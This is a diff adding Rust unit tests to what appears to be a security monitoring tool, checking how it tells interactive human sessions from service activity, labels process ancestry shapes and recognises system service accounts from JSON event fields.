+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"httpd","proc.aname[3]":"runc"}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.name":"www-data","user.uid":33}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.uid":998,"user.loginuid":998}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd","proc.stdin_type":"ipv4"}"#
+        ));
+        // An admin who changed to a service user keeps their login uid: still a person.
+        assert!(i(
+            r#"{"proc.name":"psql","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.name":"postgres","user.uid":999,"user.loginuid":1000}"#
+        ));
+    }
+
+    #[test]
+    fn lineage_shapes() {
+        let sh = |j: &str| shape(&ev(j));
+        assert_eq!(
+            sh(
+                r#"{"proc.name":"rm","proc.pname":"bash","proc.aname[2]":"sshd","proc.aname[3]":"systemd"}"#
+            ),
+            "shell<login<init"
+        );
+        assert_eq!(
+            sh(
+                r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"httpd","proc.aname[3]":"runc"}"#
+            ),
+            "shell<service<runtime"
+        );
+        assert_eq!(
+            sh(r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"runc"}"#),
+            "shell<runtime"
+        );
+        assert_eq!(
+            sh(
+                r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"bash","proc.aname[3]":"cron"}"#
+            ),
+            "shell<scheduler"
+        );
+        assert_eq!(sh(r#"{"proc.name":"rm"}"#), "?");
+        assert_eq!(role("python3.11"), Role::Interpreter);
+        assert_eq!(role("containerd-shim-runc-v2"), Role::Runtime);
+    }
+
+    #[test]
+    fn service_accounts() {
+        assert_eq!(
+            system_account(&ev(r#"{"user.name":"www-data","user.uid":33}"#)).as_deref(),
+            Some("www-data")
+        );
+        assert_eq!(
+            system_account(&ev(r#"{"user.name":"svc","user.uid":999}"#)).as_deref(),
+            Some("svc")
+        );
+        assert_eq!(
+            system_account(&ev(r#"{"user.name":"root","user.uid":0}"#)),
+            None
+        );
+        assert_eq!(
+            system_account(&ev(r#"{"user.name":"alice","user.uid":1000}"#)),
+            None
+        );
     }
 }
